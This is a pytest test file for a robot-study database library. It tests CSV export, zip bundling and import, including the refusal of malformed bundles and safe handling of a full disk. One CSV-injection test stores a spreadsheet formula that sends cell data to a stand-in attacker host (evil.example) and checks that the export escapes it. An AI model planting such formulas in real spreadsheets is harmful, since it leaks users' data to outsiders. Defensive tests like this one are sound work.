"""CSV export of the study database, the zip bundle, and import into a new database (issue 4, item 4)."""

import io
import json
import math
import os
import re
import shutil
import sqlite3
import zipfile

import numpy as np
import pandas as pd
import pytest

from cacas import export, spaces
from cacas.errors import CacasError
from cacas.records import BY_PREFERENCE_COLUMNS, DAILY_COLUMNS, INTERACTION_COLUMNS, USER_INITIATED
from cacas.store import StudyStore
from cacas.store.restore import restore
from studies import policy_bytes

COUGH = {"activity": ["cough"], "action": "pain check"}
ROUND_TRIP = ("interactions", "daily", "by_preference", "participants", "questionnaire", "adaptations", "preferences", "days",
              "policies", "studies")


def fill(store: StudyStore) -> None:
    """A small two-participant study: 2 days each, a roll-back, two methods, questionnaires."""
    store.create_study("pilot", "pilot, with a comma and\na newline")
    store.add_participant("P01", "25-34", 'notes, "quoted"')
    store.add_participant("P02", "65+", study="pilot")
    store.save_preferences("P01", [COUGH])
    store.record_adaptation("P01", 0, "cacas", {}, 0.0, {"preference_accuracy": 0.30, "by_preference": [
        {"preference": 1, "label": "cough -> pain check", "activity": "cough", "action": "pain check",
         "states": 400, "correct": 120}]})
    p = np.full(14, 1 / 14)
    for who in ("P01", "P02"):
        for d in (1, 2):
            day = store.open_day(who)
            for i in range(4):
                store.record_interaction(who, day, activity="cough", scene="bedroom", hour=7.25 + i,
                                         interval_minutes=[0, 12, 90, 300][i], robot_action="pain check",
                                         response=["accept", "reject", "others", "accept"][i], probabilities=p,
                                         recognised_activity="sneeze", sound_model=f"{d}123456789ab"[:12])
            store.record_interaction(who, day, activity="use stove", scene="kitchen", time_slot=8, interval_bin=3,
                                     robot_action="do nothing", response="accept", type=USER_INITIATED,
                                     user_action="remind to turn off")
            store.close_day(who, day)
            v = store.save_policy(who, day, "cacas", policy_bytes(f"{who} policy after day {day}"))
            store.record_adaptation(who, day, "cacas", {"epochs": 3}, 1.5 * day,
                                    {"preference_accuracy": 0.5 + day / 10, "by_preference": [
                                        {"preference": 1, "label": "cough -> pain check", "activity": "cough",
                                         "action": "pain check", "states": 400, "correct": 200 + 40 * day}]},
                                    policy_version=v)
            store.record_adaptation(who, day, "nn", {"epochs": 3}, 0.5, {"preference_accuracy": 0.1 * day})
    store.record_questionnaire("P01", 9, "it learned, mostly")
    store.record_questionnaire("P02", 7)


@pytest.fixture(scope="module")
def filled(tmp_path_factory):
    """The folder of a database that ``fill`` made (the database and its policies/), made once: a
    study of ~40 transactions, each synced to disk, took a quarter of a second per test."""
    folder = tmp_path_factory.mktemp("filled") / "a"
    with StudyStore(folder / "study.sqlite") as s:
        fill(s)
    return folder


@pytest.fixture
def store(tmp_path, filled):
    """``fill``'s study at tmp_path/a/study.sqlite: a copy of its folder, the test's own to change."""
    shutil.copytree(filled, tmp_path / "a")
    s = StudyStore(tmp_path / "a" / "study.sqlite")
    yield s
    s.close()


@pytest.fixture(scope="module")
def bundle(tmp_path_factory, filled):
    """The zip bundle of ``fill``'s study, exported once, for tests that only read it."""
    folder = tmp_path_factory.mktemp("bundle")
    shutil.copytree(filled, folder / "a")
    with StudyStore(folder / "a" / "study.sqlite") as s:
        return export.export_study(s, folder / "out").bundle


def test_the_bundle_stores_policy_files_as_they_are_and_deflates_the_tables(bundle, tmp_path):
    """Scale walk (60 participants x 21 days, 1,260 policy files of 640 KB): deflating the policy files (torch's
    zips of weights) took 21 of the zip's 36 s for a tenth of its size; they are stored as they are now, the
    tables still deflated, and the zip imports as before."""
    with zipfile.ZipFile(bundle) as zf:
        how = {i.filename: i.compress_type for i in zf.infolist()}
    policies = [n for n in how if n.startswith("policies/")]
    assert policies and {how[n] for n in policies} == {zipfile.ZIP_STORED}
    assert {how[n] for n in how if n not in policies} == {zipfile.ZIP_DEFLATED}
    assert export.import_bundle(bundle, tmp_path / "b" / "study.sqlite").interactions > 0


def test_an_import_reads_each_policy_file_when_it_comes_to_it_not_all_at_once(bundle, tmp_path, monkeypatch):
    """Scale walk: read_bundle returned every policy file's bytes (1,260 at 60 x 21: 1.7 GB peak for the import);
    now they are read from the open zip one at a time, as restore checks each row and as each is written."""
    reads = []
    real = zipfile.ZipFile.read
    monkeypatch.setattr(zipfile.ZipFile, "read", lambda zf, name, *a: reads.append(name) or real(zf, name, *a))
    tables, policies = export.read_bundle(bundle)
    with policies:
        assert len(policies) == len(tables["policies"]) > 1
        assert not [n for n in reads if n.startswith("policies/")]  # listed, not read
        first = sorted(policies)[0]
        assert policies[first] == real(policies._zf, f"policies/{first}")
    assert policies._zf.fp is None  # closed with the with
    reads.clear()
    export.import_bundle(bundle, tmp_path / "b" / "study.sqlite")
    read = [n for n in reads if n.startswith("policies/")]
    assert sorted(set(read)) == [f"policies/{p}" for p in sorted(policies)]
    assert all(read.count(n) == 2 for n in set(read))  # checked with its row, then written


def test_a_policy_file_that_changes_in_the_zip_during_an_import_is_refused_and_leaves_nothing(bundle, tmp_path,
                                                                                               monkeypatch):
    """Read twice (checked with its row, then written), a policy file whose bytes differ the second time (the zip
    changed on disk in between) is not written as if checked: the import is refused and leaves nothing behind."""
    real = export.BundlePolicies.__getitem__
    seen = set()

    def second_read_differs(self, rel):
        data = real(self, rel)
        if rel in seen:
            return data[:-1] + bytes([data[-1] ^ 1])
        seen.add(rel)
        return data

    monkeypatch.setattr(export.BundlePolicies, "__getitem__", second_read_differs)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=f"^{re.escape(str(bundle))}: policy file '.*' changed while it was "
                                         "imported; import again$"):
        export.import_bundle(bundle, target)
    assert not target.parent.exists()


def test_export_writes_every_table_and_one_zip(store, tmp_path):
    result = export.export_study(store, tmp_path / "out")
    assert set(result.tables) == set(export.TABLES)
    with zipfile.ZipFile(result.bundle) as zf:
        names = set(zf.namelist())
    assert {f"{t}.csv" for t in export.TABLES} <= names
    assert sum(n.startswith("policies/") for n in names) == 4
    inter = pd.read_csv(result.tables["interactions"])
    assert list(inter.columns[:len(INTERACTION_COLUMNS)]) == INTERACTION_COLUMNS
    assert len(inter) == 20
    daily = pd.read_csv(result.tables["daily"])
    assert list(daily.columns) == DAILY_COLUMNS + ["preferences_version"]
    assert set(pd.read_csv(result.tables["participants"])["participant"]) == {"P01", "P02"}
    assert pd.read_csv(result.tables["questionnaire"])["satisfaction"].tolist() == [9, 7]
    assert len(pd.read_csv(result.tables["adaptations"])) == 9


def test_same_database_gives_same_bytes(store, tmp_path):
    a = export.export_study(store, tmp_path / "one")
    b = export.export_study(store, tmp_path / "two")
    assert a.bundle.read_bytes() == b.bundle.read_bytes()


def test_daily_table_metrics(store):
    daily = export.export_tables(store)["daily"].set_index(["participant", "method", "day"])
    row = daily.loc[("P01", "cacas", 1)]
    # 4 robot-initiated pain checks: 2 accepted, 1 rejected, 1 not answered (not recorded, as in
    # the paper); 1 user-initiated request
    assert row["interactions"] == 4 and row["successes"] == 2 and row["user_initiated"] == 1
    assert row["unanswered"] == 1 and math.isclose(row["success_rate"], 2 / 4)
    assert row["feedback"] == 3 + 2  # accept, reject, accept + two points for the request
    assert daily.loc[("P01", "cacas", 2), "cumulative_feedback"] == 10
    # day 1 ran the initial policy (its day-0 run: 0.30); day 2 the policy adapted after day 1
    assert math.isclose(row["preference_accuracy"], 0.30)
    assert math.isclose(daily.loc[("P01", "cacas", 2), "preference_accuracy"], 0.6)
    assert math.isnan(daily.loc[("P02", "cacas", 1), "preference_accuracy"])  # no initial run recorded
    # a baseline evaluated but not run in closed loop: accuracy only
    nn = daily.loc[("P01", "nn", 2)]
    assert math.isclose(nn["preference_accuracy"], 0.1) and pd.isna(nn["success_rate"])
    # ... adapted from the same data, so it has the day's counts (as cacas simulate writes them)
    assert (nn["interactions"], nn["feedback"], nn["cumulative_feedback"]) == (4, 5, 10) and pd.isna(nn["successes"])
    assert ("P01", "nn", 3) not in daily.index  # no day 3 yet
    # the success ceiling from the described preferences (cough -> pain check): 3 coughs of the 4
    # recorded interactions
    assert math.isclose(row["success_ceiling"], 3 / 4) and pd.isna(nn["success_ceiling"])
    assert daily.xs("P02")["success_ceiling"].isna().all()  # P02 described no preferences


def test_cumulative_feedback_is_one_stream_when_the_method_in_force_changes(store):
    """A researcher puts a baseline's policy in force for day 3: day 3's interactions carry its
    method, and the participant's cumulative feedback goes on from day 2's."""
    version = store.save_policy("P01", 2, "nn", policy_bytes("an nn policy after day 2"))
    store.set_active_policy("P01", version)
    day = store.open_day("P01")
    store.record_interaction("P01", day, activity="cough", scene="bedroom", hour=8, interval_minutes=0,
                             robot_action="pain check", response="accept")
    daily = export.export_tables(store)["daily"].set_index(["participant", "method", "day"])
    assert store.interactions_frame("P01", method=None)["method"].iloc[-1] == "nn"
    assert daily.loc[("P01", "nn", 3), "interactions"] == 1
    assert daily.loc[("P01", "nn", 3), "cumulative_feedback"] == 10 + 1
    # CACAS's policy after day 2 is not in force, but Fig. 4 still scores it on day 3 (as a baseline)
    cacas = daily.loc[("P01", "cacas", 3)]
    assert math.isclose(cacas["preference_accuracy"], 0.7) and pd.isna(cacas["success_rate"])
    assert cacas["cumulative_feedback"] == 11


def test_by_preference_table_follows_the_runs_in_force(store):
    table = export.by_preference_frame(store.interactions_frame(method=None, extra=True), store.adaptations_frame(),
                                       store.days_frame())
    assert list(table.columns) == BY_PREFERENCE_COLUMNS
    # P01's cacas: day 1 the initial policy (120/400), day 2 the policy adapted after day 1 (240/400)
    p01 = table[(table["participant"] == "P01") & (table["method"] == "cacas")].set_index("day")
    assert list(p01["correct"]) == [120, 240] and list(p01["accuracy"]) == [0.3, 0.6]
    assert (table["method"] == "nn").sum() == 0  # recorded without a breakdown
    assert list(table.loc[table["participant"] == "P02", "day"]) == [2]  # no initial run recorded for P02
    # the same as daily.csv's accuracy where both exist
    daily = export.export_tables(store)["daily"].set_index(["participant", "method", "day"])["preference_accuracy"]
    for row in table.itertuples():
        assert math.isclose(daily.loc[(row.participant, row.method, row.day)], row.accuracy)


def test_tables_list_the_methods_in_the_papers_order(store):
    """daily.csv and by_preference.csv of a human study: CACAS, w/o PR, ORL, NN, then ours, as
    ``cacas simulate`` writes them (review: sorted by name, NN came before ORL)."""
    pref = [{"preference": 1, "label": "cough -> pain check", "activity": "cough", "action": "pain check",
             "states": 400, "correct": 100}]
    for method in ("orl", "bandit", "nn", "cacas-no-pr"):
        for day in (0, 1, 2):
            store.record_adaptation("P01", day, method, {}, 0.0, {"preference_accuracy": 0.25, "by_preference": pref})
    tables = export.export_tables(store)
    order = ["cacas", "cacas-no-pr", "orl", "nn", "bandit"]
    for name in ("daily", "by_preference"):
        p01 = tables[name][tables[name]["participant"] == "P01"]
        assert list(dict.fromkeys(p01["method"])) == order, name
        assert list(p01.loc[p01["method"] == "orl", "day"]) == [1, 2]  # days in order within a method


def test_next_day_accuracy_scores_the_policies_adapted_for_a_day_not_started(store):
    def ahead():
        table = export.next_day_accuracy(export.export_tables(store))
        return {(r.participant, r.day, r.method): (round(r.preference_accuracy, 6), r.in_force)
                for r in table.itertuples()}

    # both participants closed day 2 and adapted: those policies are for day 3, not started yet
    assert ahead() == {("P01", 3, "cacas"): (0.7, True), ("P01", 3, "nn"): (0.2, False),
                       ("P02", 3, "cacas"): (0.7, True), ("P02", 3, "nn"): (0.2, False)}
    assert export.export_tables(store)["daily"]["day"].max() == 2  # Fig. 4 and daily.csv: days begun
    # a roll-back changes what the robot will do: P01's version 1 (adapted after day 1), then the
    # initial policy (its day-0 run); P02 has no day-0 run, so nothing is marked in force
    store.set_active_policy("P01", 1)
    assert ahead()[("P01", 3, "cacas")] == (0.6, True)
    store.set_active_policy("P01", None)
    store.set_active_policy("P02", None)
    assert ahead()[("P01", 3, "cacas")] == (0.3, True) and ahead()[("P02", 3, "cacas")] == (0.7, False)
    # once a day is open nothing is ahead of it
    store.open_day("P01")
    assert {k[0] for k in ahead()} == {"P02"}
    # nor after the study's last day: there is no day 8
    for _ in range(3, 8):
        store.close_day("P01", store.days("P01")[-1].day)
        store.record_adaptation("P01", store.days("P01")[-1].day, "cacas", {}, 1.0, {"preference_accuracy": 0.9})
        if store.days("P01")[-1].day < 7:
            store.open_day("P01")
    assert store.days("P01")[-1].day == 7 and {k[0] for k in ahead()} == {"P02"}


def test_by_preference_of_a_preference_without_test_states_is_empty_not_zero():
    adaptations = pd.DataFrame({"participant": ["P01"], "method": ["cacas"], "day": [0], "policy_version": [pd.NA],
                                "preference_accuracy": [0.0], "metrics": [
                                    '{"by_preference": [{"preference": 1, "label": "x", "activity": "cough", '
                                    '"action": "pain check", "states": 0, "correct": 0}]}']})
    days = pd.DataFrame({"participant": ["P01"], "day": [1]})
    table = export.by_preference_frame(pd.DataFrame(columns=["participant", "method", "day", "policy_version"]),
                                       adaptations, days)
    assert len(table) == 1 and math.isnan(table["accuracy"].iloc[0])


def test_daily_accuracy_follows_the_policy_in_force_after_rollback(tmp_path):
    with StudyStore(tmp_path / "s.sqlite") as s:
        s.add_participant("P01")
        for d in (1, 2):
            s.open_day("P01")
            s.close_day("P01", d)
            v = s.save_policy("P01", d, "cacas", policy_bytes(f"policy {d}"))
            s.record_adaptation("P01", d, "cacas", {}, 1.0, {"preference_accuracy": d / 10}, policy_version=v)
        s.set_active_policy("P01", 1)  # day 2's policy was bad: back to the one after day 1
        day = s.open_day("P01")
        s.record_interaction("P01", day, activity="cough", scene="bedroom", hour=8, interval_minutes=0,
                             robot_action="pain check", response="accept")
        daily = export.export_tables(s)["daily"].set_index(["participant", "method", "day"])
        assert math.isclose(daily.loc[("P01", "cacas", 3), "preference_accuracy"], 0.1)


def test_a_day_rolled_back_in_its_middle_is_scored_by_the_version_most_of_it_had(tmp_path):
    """6 interactions under version 1, a roll-back to the initial policy, 2 more: the day was
    scored as the initial policy's (its last interaction's version; walkthrough)."""
    with StudyStore(tmp_path / "s.sqlite") as s:
        s.add_participant("P01")
        s.close_day("P01", s.open_day("P01"))
        s.record_adaptation("P01", 0, "cacas", {}, 1.0, {"preference_accuracy": 0.2})  # the initial policy
        v = s.save_policy("P01", 1, "cacas", policy_bytes("policy 1"))
        s.record_adaptation("P01", 1, "cacas", {}, 1.0, {"preference_accuracy": 0.7}, policy_version=v)
        day = s.open_day("P01")

        def interact(n):
            for _ in range(n):
                s.record_interaction("P01", day, activity="cough", scene="bedroom", hour=8, interval_minutes=0,
                                     robot_action="pain check", response="accept")
        interact(6)
        s.set_active_policy("P01", None)
        interact(2)
        daily = export.export_tables(s)["daily"].set_index(["participant", "method", "day"])
        assert math.isclose(daily.loc[("P01", "cacas", 2), "preference_accuracy"], 0.7)
        interact(4)  # 6 and 6: a tie goes to the version used later, the initial policy
        daily = export.export_tables(s)["daily"].set_index(["participant", "method", "day"])
        assert math.isclose(daily.loc[("P01", "cacas", 2), "preference_accuracy"], 0.2)


def test_export_import_export_gives_the_same_tables(store, tmp_path):
    first = export.export_study(store, tmp_path / "first")
    target = tmp_path / "b" / "moved.sqlite"
    assert export.import_bundle(first.bundle, target) == export.Restored(20, ())
    assert not [p for p in target.parent.iterdir() if p.name.startswith(".")]  # no temporary left
    with StudyStore(target) as moved:
        second = export.export_study(moved, tmp_path / "second")
        assert moved.load_policy("P02") == policy_bytes("P02 policy after day 2")
        assert moved.resume("P01") == store.resume("P01")
        assert moved.get_preferences("P01") == store.get_preferences("P01")
        assert moved.events()["what"].iloc[-1] == "import_bundle"
        # the restored database itself, not only its export (both exports go through export_tables: a
        # column it wrote wrong, say every adaptation's parameters blanked, passed the comparison below)
        for frame in ("participants_frame", "preferences_frame", "days_frame", "questionnaire_frame",
                      "adaptations_frame", "policies_frame", "interactions_frame"):
            pd.testing.assert_frame_equal(getattr(moved, frame)(), getattr(store, frame)(), obj=frame)
        pd.testing.assert_frame_equal(moved.events().iloc[:-1], store.events(), obj="events")
    for name in ROUND_TRIP:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name
    # the event log keeps every original event, plus the import
    ev1 = pd.read_csv(first.tables["events"])
    ev2 = pd.read_csv(second.tables["events"])
    assert ev2.iloc[:len(ev1)].equals(ev1) and len(ev2) == len(ev1) + 1


def test_text_a_spreadsheet_would_run_is_exported_escaped_and_imported_as_it_was(tmp_path):
    """CSV injection (data steward's audit): notes, a comment, a study description and a
    preference's words starting with = + - @ were written as they are, and a spreadsheet ran them."""
    s = StudyStore(tmp_path / "a.sqlite")
    s.create_study("pilot", "-2+3 rooms")
    s.add_participant("P01", "25-34", '=HYPERLINK("http://evil.example/?x="&A1,"click")', study="pilot")
    s.save_preferences("P01", [dict(COUGH, description="@when I cough, check on me")])
    s.close_day("P01", s.open_day("P01"))
    s.record_questionnaire("P01", 8, "+1 great robot")
    first = export.export_study(s, tmp_path / "first")
    cells = {name: pd.read_csv(first.tables[name], dtype=str, keep_default_na=False)
             for name in ("participants", "questionnaire", "studies")}
    assert cells["participants"]["notes"].iloc[0].startswith("'=HYPERLINK")
    assert cells["questionnaire"]["comments"].iloc[0] == "'+1 great robot"
    assert "'-2+3 rooms" in cells["studies"]["description"].tolist()
    target = tmp_path / "b.sqlite"
    export.import_bundle(first.bundle, target)
    with StudyStore(target) as moved:
        assert moved.participants_frame()["notes"].iloc[0] == '=HYPERLINK("http://evil.example/?x="&A1,"click")'
        assert moved.get_preferences("P01").preferences[0].description == "@when I cough, check on me"
        assert moved.questionnaire_frame()["comments"].iloc[0] == "+1 great robot"
        second = export.export_study(moved, tmp_path / "second")
    for name in ROUND_TRIP:
        assert first.tables[name].read_bytes() == second.tables[name].read_bytes(), name
    s.close()


def test_notes_with_a_lone_carriage_return_export_to_a_bundle_that_imports(tmp_path):
    """A carriage return alone in a text cell (saved through the library before validate.text made
    line breaks line feeds) was written unquoted: a reader took it for the row's end, and the
    bundle could not be imported ("age range ... is invalid"). It is written as a line feed."""
    db = tmp_path / "a.sqlite"
    with StudyStore(db) as s:
        s.add_participant("P01", "25-34")
        s.add_participant("P02", "35-44", "second")
    with sqlite3.connect(db) as c:  # as an older version of the library stored it
        c.execute("UPDATE participants SET notes = ? WHERE code = 'P01'", ("line one\rline two",))
    c.close()
    with StudyStore(db) as s:
        first = export.export_study(s, tmp_path / "first")
    rows = pd.read_csv(first.tables["participants"], dtype=str, keep_default_na=False)
    assert rows["notes"].tolist() == ["line one\nline two", "second"] and rows["age_range"].tolist() == ["25-34", "35-44"]
    export.import_bundle(first.bundle, tmp_path / "b.sqlite")
    with StudyStore(tmp_path / "b.sqlite") as moved:
        assert moved.participants_frame()["notes"].tolist() == ["line one\nline two", "second"]


def test_a_bundle_from_before_the_model_ids_imports_with_them_empty(store, tmp_path):
    """Bundles exported before schema version 2 have no sound_model / scene_model columns."""
    bundle = export.export_study(store, tmp_path / "out").bundle
    old = _rewrite(bundle, tmp_path / "old.zip", "interactions", lambda df: df.drop(columns=["sound_model",
                                                                                           "scene_model"]))
    target = tmp_path / "b" / "moved.sqlite"
    assert export.import_bundle(old, target).interactions == 20
    with StudyStore(target) as moved:
        frame = moved.interactions_frame(extra=True, method=None)
    assert set(frame["sound_model"]) == {""} and set(frame["scene_model"]) == {""}
    assert frame.drop(columns=["sound_model"]).equals(
        store.interactions_frame(extra=True, method=None).drop(columns=["sound_model"]))


def test_the_interactions_export_names_the_recognising_models(store, tmp_path):
    frame = pd.read_csv(export.export_study(store, tmp_path / "out").tables["interactions"], dtype=str,
                        keep_default_na=False)
    heard = frame[frame["recognised_activity"] == "sneeze"]
    assert len(heard) == 16 and set(heard["sound_model"]) == {"1123456789ab", "2123456789ab"}
    assert set(frame.loc[frame["recognised_activity"] == "", "sound_model"]) == {""}
    assert set(frame["scene_model"]) == {""}


def test_import_refuses_an_existing_database(store, tmp_path):
    bundle = export.export_study(store, tmp_path / "out").bundle
    existing = tmp_path / "existing.sqlite"
    existing.write_bytes(b"precious")
    with pytest.raises(CacasError, match="already exists"):
        export.import_bundle(bundle, existing)
    assert existing.read_bytes() == b"precious"
    with pytest.raises(CacasError, match="already exists"):
        export.import_bundle(bundle, store.path)


def _rewrite(bundle, out, table, change):
    """A copy of ``bundle`` with one table changed by ``change(df) -> df``."""
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(out, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == f"{table}.csv":
                df = change(pd.read_csv(io.BytesIO(data), dtype=str, keep_default_na=False))
                data = df.to_csv(index=False).encode()
            zout.writestr(name, data)
    return out


@pytest.mark.parametrize("table,change,message", [
    ("interactions", lambda df: df.assign(activity="juggle"), "interactions.csv, row 2: activity"),
    ("days", lambda df: df.assign(day="100000000000000000000"),
     r"days.csv, row 2, column day: '100000000000000000000' is too large; valid: a whole number >= 1$"),
    ("interactions", lambda df: df.assign(response="maybe"), "unknown response 'maybe'"),
    ("interactions", lambda df: df.assign(interval="7"), "interval 7 is not an S4 bin value"),
    ("questionnaire", lambda df: df.assign(satisfaction="11"), "satisfaction"),
    ("days", lambda df: df.iloc[1:],
     r"days.csv, row 2: day 2 of participant P01 is their first; valid: days numbered 1, 2, 3, ..."),
    ("policies", lambda df: df.assign(sha256="0" * 64), "does not match its sha256"),
    ("participants", lambda df: df.drop(columns=["study"]), "no column 'study'"),
    ("interactions", lambda df: df.assign(scene_model="resnet"),
     "interactions.csv, row 2: scene_model: 'resnet' is not a model id; valid: 12 hex digits"),
    # walkthrough: imported, then every tablet answer failed with a TypeError
    ("participants", lambda df: df.assign(active_policy=df["active_policy"].where(df["active_policy"] == "", "7")),
     "participant P01's policy in force is version 7, which policies.csv does not have"),
    # review: a bad number named the file and row, not the column
    ("days", lambda df: df.assign(day="two"),
     "days.csv, row 2, column day: 'two' is not a whole number; valid: a whole number >= 1"),
    ("questionnaire", lambda df: df.assign(satisfaction="x"),
     r"questionnaire.csv, row 2, column satisfaction: 'x' is not a whole number; valid: a whole number 1..10"),
    ("interactions", lambda df: df.assign(policy_version="x"),
     r"interactions.csv, row 2, column policy_version: 'x' is not a whole number; valid: a whole number >= 1, or "
     r"empty"),
    ("adaptations", lambda df: df.assign(duration_s="1,5"),
     r"adaptations.csv, row 2, column duration_s: '1,5' is not a number; valid: a number, or empty"),
    ("interactions", lambda df: df.assign(probabilities="[0.5,"),
     r"interactions.csv, row 2, column probabilities: not valid JSON"),
    ("participants", lambda df: df.assign(participant=df["participant"].where(df.index > 0, "P 01")),
     r"participants.csv, row 2: participant code 'P 01' is invalid"),
    ("participants", lambda df: df.assign(notes="x" * 2001),
     r"participants.csv, row 2: notes is 2001 characters long; valid: at most 2000"),
    ("interactions", lambda df: df.assign(hour="7h15"),
     "interactions.csv, row 2, column hour: '7h15' is not a number; valid: a number, or empty"),
    # review: tables the API would refuse were imported
    ("days", lambda df: df.assign(closed_at=""),
     r"days.csv, row 2: day 1 of participant P01 is open \(closed_at is empty\) but day 2 follows it; valid: a "
     r"closed_at time on every day but a participant's latest"),
    ("interactions", lambda df: df.assign(user_action=df["user_action"].where(df["type"] == "type_2", "chitchat")),
     r"interactions.csv, row 2: user_action 'chitchat' given for a robot-initiated \(type_1\) interaction; only "
     r"type_2 interactions have one"),
    ("interactions", lambda df: df.assign(user_action=""), "interactions.csv, row 6: user_action is missing"),
    # a type_2 row is the confirmed request (Table II's D_i): its response is "accept"
    ("interactions", lambda df: df.assign(response=df["response"].where(df["type"] != "type_2", "reject")),
     r"interactions.csv, row 6: response 'reject' given for a user-initiated \(type_2\) interaction; valid: "
     r"'accept'"),
    ("interactions", lambda df: df.assign(time="garbage"),
     r'interactions.csv, row 2, column time: \'garbage\' is invalid; valid: an ISO 8601 time with a time zone, such as '
     r'"2026-11-21T10:00:00Z" \(UTC\)'),
    ("days", lambda df: df.assign(day=df["day"].replace("2", "5")),
     r"days.csv, row 3: day 5 of participant P01 follows day 1; valid: days numbered 1, 2, 3, ..."),
    # "the bundle's tables do not fit together (FOREIGN KEY constraint failed)": no table or row named
    ("interactions", lambda df: df.assign(day=df["day"].where(df.index != 6, "3")),
     r"interactions.csv, row 8: day 3 of participant P01 is not in days.csv; valid: one that days.csv lists for them"),
    ("interactions", lambda df: df.assign(policy_version=df["policy_version"].where(df.index != 12, "9")),
     r"interactions.csv, row 14: policy_version 9 of participant P02 is not in policies.csv; valid: one that "
     r"policies.csv lists for them"),
    ("adaptations", lambda df: df.assign(policy_version=df["policy_version"].where(df.index != 1, "7")),
     r"adaptations.csv, row 3: policy_version 7 of participant P01 is not in policies.csv"),
    ("days", lambda df: df.assign(day=df["day"].replace("2", "1")),
     r"days.csv, row 3: day 1 of participant P01 is listed twice \(rows 2 and 3\)"),
    ("adaptations", lambda df: df.assign(parameters="{epochs: 3}"),
     r"adaptations.csv, row 2, column parameters: not valid JSON \(Expecting property name enclosed in double "
     r"quotes\)"),
])
def test_bad_bundle_is_refused_and_leaves_nothing(bundle, tmp_path, table, change, message):
    bad = _rewrite(bundle, tmp_path / "bad.zip", table, change)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=message) as refused:
        export.import_bundle(bad, target)
    assert str(refused.value).startswith(f"{bad}: ")  # the bundle named, as read_bundle names it
    assert not target.exists()
    assert not target.parent.exists()  # nor an empty folder


def test_a_policy_file_listed_in_another_participants_folder_is_refused(bundle, tmp_path):
    """Safety audit: an edited bundle whose policies.csv put P02's policy file in P01's folder
    imported; removing P01 then deleted P02's policy (its version could no longer be loaded, nor the
    study exported), and removing P02 left the file behind."""
    old, new = "P02/day1-cacas-", "P01/day1-cacas-"
    bad = tmp_path / "bad.zip"
    with zipfile.ZipFile(bundle) as zin, zipfile.ZipFile(bad, "w") as zout:
        for name in zin.namelist():
            data = zin.read(name)
            if name == "policies.csv":
                data = data.replace(old.encode(), new.encode())
            zout.writestr(name.replace(f"policies/{old}", f"policies/{new}"), data)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=r"policies.csv, row 4, column path: 'P01/day1-cacas-[0-9a-f]{8}.pt' is not "
                                         r"in participant P02's folder; valid: a path beginning P02/ \(cacas export "
                                         r"keeps each policy file in its participant's folder\)$"):
        export.import_bundle(bad, target)
    assert not target.parent.exists()


def test_a_full_disk_during_an_import_names_the_new_database_not_the_bundle(bundle, tmp_path, monkeypatch):
    """Safety audit: the disk filling up while an import wrote the new database was said as
    "cacas-study.zip: the study database cannot be written (database or disk is full)", as if the
    bundle were bad. The message names the database being built; nothing is left behind."""
    import sqlite3

    from cacas.store import db

    real = db.transact

    def full(conn, fn, queue=None):
        def write(c):
            fn(c)
            raise sqlite3.OperationalError("database or disk is full")
        return real(conn, write if fn.__qualname__.startswith("restore") else fn, queue)
    monkeypatch.setattr(db, "transact", full)
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=r"^" + re.escape(f"{target}: the study database cannot be written (database "
                                                          "or disk is full); nothing was saved")):
        export.import_bundle(bundle, target)
    assert not target.parent.exists()


class _RefusingConnection:
    """A store's connection whose ``PRAGMA journal_mode = DELETE`` (the import's last step, which folds the
    write-ahead log into the new database's file and needs room for it) fails as on a full disk."""

    def __init__(self, real):
        self._real = real

    def execute(self, sql, *args):
        if "journal_mode = DELETE" in sql:
            raise sqlite3.OperationalError("database or disk is full")
        return self._real.execute(sql, *args)

    def __getattr__(self, name):
        return getattr(self._real, name)


@pytest.mark.parametrize("where", ["a read", "folding the log in"])
def test_a_full_disk_outside_a_write_during_an_import_names_the_new_database(bundle, tmp_path, monkeypatch, where):
    """Walkthrough (a 2 MB tmpfs filled up, then `cacas import` into it): with 200 kB free the import
    failed while it switched the new database out of WAL mode ("database or disk is full"), with 100 kB
    in a read of the new database ("disk I/O error"); both were SQLite's bare errors, which the CLI
    said as "the study database cannot be read (...); restore it from a backup or an export", naming
    no file, as if a study were damaged. They are the new database's disk's doing, said as a write
    it refused is; nothing is left behind."""
    real_restore = export.restore
    if where == "a read":
        def studies(self):
            raise sqlite3.OperationalError("disk I/O error")
        monkeypatch.setattr(StudyStore, "studies", studies)
        said = "disk I/O error"
    else:
        def restore(store, tables, policies):
            restored = real_restore(store, tables, policies)
            store._conn = _RefusingConnection(store._conn)
            return restored
        monkeypatch.setattr(export, "restore", restore)
        said = "database or disk is full"
    target = tmp_path / "new" / "study.sqlite"
    with pytest.raises(CacasError, match=r"^" + re.escape(f"{target}: the study database cannot be written ({said}); "
                                                          "nothing was saved")):
        export.import_bundle(bundle, target)
    assert not target.parent.exists()


def test_an_import_makes_the_new_databases_name_durable_before_it_returns(bundle, tmp_path, monkeypatch):
    """Safety audit: the import linked the new database into place and said "imported" without
    syncing its folder: a power cut then could lose the name (and the study with it, once the
    researcher had moved the bundle away). The folder is synced after the link."""
    synced, real_fsync, real_link = [], os.fsync, os.link

    def fsync(fd):
        synced.append(os.fstat(fd).st_ino)
        real_fsync(fd)

    def link(src, dst, *args, **kwargs):
        real_link(src, dst, *args, **kwargs)
        synced.append("linked")
    monkeypatch.setattr(os, "fsync", fsync)
    monkeypatch.setattr(os, "link", link)
    target = tmp_path / "new" / "study.sqlite"
    export.import_bundle(bundle, target)
    assert target.parent.stat().st_ino in synced[synced.index("linked"):]


def _before_the_contact_checks(monkeypatch):
    """Let the store take what a study may hold from before the contact checks (codes that look like
    a phone number or a date, contact details in free text), which the forms refuse now."""
    from cacas import preferences
    from cacas.store import validate

    for module in (validate, preferences):
        monkeypatch.setattr(module, "contact_details", lambda value: None)


def test_a_study_holding_what_the_forms_refuse_now_is_restored_as_it_was_with_notes(tmp_path, monkeypatch):
    """A bundle import is the restore of a backup: a code added before phone-number and date codes
    were refused for new participants (README: such codes "keep working"), and free text saved
    before the contact check, were refused, so the study's own export could not be imported."""
    path = tmp_path / "a" / "study.sqlite"
    with monkeypatch.context() as m:
        _before_the_contact_checks(m)
        with StudyStore(path) as s:
            s.create_study("ward 0612345678", "lead: +44 20 7946 0958")
            s.add_participant("P01")
